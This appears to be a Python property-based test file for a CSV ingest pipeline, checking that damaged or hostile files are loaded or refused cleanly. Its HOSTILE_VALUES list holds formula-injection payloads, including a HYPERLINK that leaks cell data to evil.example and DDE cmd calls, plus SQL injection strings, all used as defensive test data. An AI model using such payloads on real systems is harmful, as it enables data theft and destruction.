"""Property-based tests: malformed and hostile files never crash ingest without a clear message,
row accounting always holds, and a file that fails changes nothing already loaded.

Each example writes a file built from a valid header and rows, then damaged: wrong encodings,
ragged rows, huge fields, formula-injection and SQL-looking values, binary junk, truncation.
Ingest must either load it (rows in = staged + quarantined, and the logs agree) or raise an
IngestError that names the file and says what to do. Either way the extract loaded before stays
exactly as it was.
"""

from __future__ import annotations

import codecs
import hashlib
import shutil

import duckdb
import pytest
from hypothesis import HealthCheck, event, given, settings as hsettings, strategies as st

from pipelines.ingest.errors import IngestError
from tests.ingest_helpers import HEADER, connect, deliver, fresh, ingest

HOSTILE_VALUES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'; DROP TABLE raw.testsrc__people; --",
    "Robert'); DELETE FROM dq.ingest_log; --",
    '" OR 1=1 --',
    "NULL",
    "N/A",
    "\t=1+1",
    "Zoë Ñúñez",
    "名前",
    "\u202etxt.exe",
    "",
]

cell = st.one_of(
    st.sampled_from(HOSTILE_VALUES),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12),
    st.sampled_from(["207", "P1", "P2", "2023-04-01", "01/04/2023", "1,234", "00123", "W10 5AB", "F", "M"]),
)
row = st.lists(cell, min_size=7, max_size=11)  # the header has 9 columns: some rows ragged


def _csv_line(cells: list[str]) -> str:
    out = []
    for value in cells:
        if any(ch in value for ch in ',"\r\n') or value != value.strip():
            value = '"' + value.replace('"', '""') + '"'
        out.append(value)
    return ",".join(out)


@st.composite
def hostile_file(draw) -> bytes:
    lines = ["" for _ in range(draw(st.integers(0, 3)))] + [HEADER]
    lines += [_csv_line(draw(row)) for _ in range(draw(st.integers(0, 12)))]
    if draw(st.booleans()):
        lines.append("207,P9," + "x" * draw(st.sampled_from([10_000, 300_000])) + ",F,2010-01-01,2023-04-01,1,1,")  # huge field
    text = draw(st.sampled_from(["\n", "\r\n"])).join(lines) + draw(st.sampled_from(["", "\n"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le"]))
    data = text.encode(encoding, errors="replace")
    damage = draw(st.sampled_from(["none", "none", "truncate", "junk", "nul"]))
    if damage == "truncate" and data:
        data = data[: draw(st.integers(0, len(data)))]
    elif damage == "junk":
        data += draw(st.binary(min_size=1, max_size=64))
    elif damage == "nul":
        cut = draw(st.integers(0, len(data)))
        data = data[:cut] + b"\x00\x00" + data[cut:]
    return data


GOOD = HEADER + "\n207,P1,Ann,F,2010-06-15,2023-04-01,1,00123,W10 5AB\n207,P2,Bob,M,2011-01-01,2023-04-02,2,7,\n"


def _loaded_state(con) -> tuple:
    return con.execute(
        "select count(*), sum(hash(t)) from raw.testsrc__people t where _extract_id = '2023-05-01'"
    ).fetchall()[0] + con.execute(
        "select count(*) from dq.ingest_log where extract_id = '2023-05-01'"
    ).fetchall()[0]


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    """A warehouse that already holds a good extract (2023-05-01), copied for each example."""
    template = tmp_path_factory.mktemp("hostile") / "template"
    fresh(template)
    con = connect(template)
    extract, path = deliver(template, GOOD, extract_id="2023-05-01")
    ingest(con, template, extract, path)
    con.close()
    return template


@hsettings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
@given(data=hostile_file())
def test_hostile_files_load_with_accounting_or_fail_clearly(base, data):
    root = base.parent / hashlib.sha256(data).hexdigest()[:16]
    if root.exists():
        shutil.rmtree(root)
    shutil.copytree(base, root)
    con = connect(root)
    try:
        before = _loaded_state(con)
        extract, path = deliver(root, data)
        try:
            result = ingest(con, root, extract, path)
        except IngestError as exc:
            message = str(exc)
            event(f"refused: {exc.problem[:40]}")
            assert str(path) in message and "What to do:" in message, message
            # Nothing of the failed file arrived.
            assert con.execute("select count(*) from raw.testsrc__people where _extract_id = '2023-05-15'").fetchall()[0][0] == 0
            assert con.execute("select count(*) from dq.ingest_log where extract_id = '2023-05-15'").fetchall()[0][0] == 0
        else:
            event("loaded" + (" with quarantine" if result.rows_quarantined else ""))
            assert result.rows_in == result.rows_staged + result.rows_quarantined
            assert con.execute("select count(*) from raw.testsrc__people where _extract_id = '2023-05-15'").fetchall()[0][0] == result.rows_staged
            assert con.execute("select count(*) from dq.quarantine where extract_id = '2023-05-15'").fetchall()[0][0] == result.rows_quarantined
            # Hostile text never reaches a log as something a spreadsheet would run.
            shown = con.execute("select value from dq.quarantine where value is not null union all select value from dq.value_issues where value is not null").fetchall()
            assert not [v for (v,) in shown if v[:1] in ("=", "+", "@", "\t")], shown
            # The archive holds the file byte for byte.
            archived = root / "archive" / "testsrc" / "2023-05-15" / "people.csv"
            assert archived.read_bytes() == data
        assert _loaded_state(con) == before  # the earlier extract is untouched
    finally:
        con.close()


def test_sql_looking_values_are_data_not_sql(tmp_path):
    """A case reference like `'; DROP TABLE ...` loads as text; every table is still there."""
    body = HEADER + "\n207,P1,Ann,F,2010-06-15,2023-04-01,1,\"'; DROP TABLE raw.testsrc__people; --\",\n"
    extract, path = deliver(tmp_path, body)
    con = connect(tmp_path)
    result = ingest(con, tmp_path, extract, path)
    assert result.rows_staged == 1
    assert con.execute("select case_ref from raw.testsrc__people").fetchall() == [("'; DROP TABLE raw.testsrc__people; --",)]
    assert {r[0] for r in con.execute("select table_name from information_schema.tables where table_schema = 'dq'").fetchall()} >= {"ingest_log", "quarantine", "value_issues"}
    con.close()


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "cp1252", "utf-8-sig"])
def test_huge_field_in_any_encoding_is_quarantined_not_lost(tmp_path, encoding):
    # 9 MB in one cell exceeds the 8 MB line limit: that row is quarantined as unreadable, the
    # others load, and the accounting holds. Rows: 2 (good), 3 (huge), 4 (good).
    huge = "y" * (9 * 1024 * 1024)
    body = HEADER + f"\n207,P1,Ann,F,2010-06-15,2023-04-01,1,a,\n207,P2,{huge},F,2010-06-15,2023-04-01,1,b,\n207,P3,Cy,M,2010-06-15,2023-04-01,1,c,\n"
    data = body.encode(encoding)
    if encoding == "utf-8-sig":
        assert data.startswith(codecs.BOM_UTF8)
    extract, path = deliver(tmp_path, data)
    con = connect(tmp_path)
    result = ingest(con, tmp_path, extract, path)
    assert (result.rows_in, result.rows_staged, result.rows_quarantined) == (3, 2, 1)
    assert con.execute("select excel_row, rule from dq.quarantine").fetchall() == [(3, "unreadable_row")]
    con.close()


def test_ingest_never_writes_the_published_database(tmp_path):
    """Ingest works on the build database only: a published file beside it is never touched."""
    published = tmp_path / "published" / "outcomes.duckdb"
    published.parent.mkdir(parents=True)
    pub = duckdb.connect(str(published))
    pub.execute("create table t as select 1 as x")
    pub.close()
    digest = hashlib.sha256(published.read_bytes()).hexdigest()
    con = connect(tmp_path)
    for data in (b"", b"\x00\x01binary", GOOD.encode("utf-16")):
        extract, path = deliver(tmp_path, data)
        try:
            ingest(con, tmp_path, extract, path)
        except IngestError:
            pass
    con.close()
    assert hashlib.sha256(published.read_bytes()).hexdigest() == digest
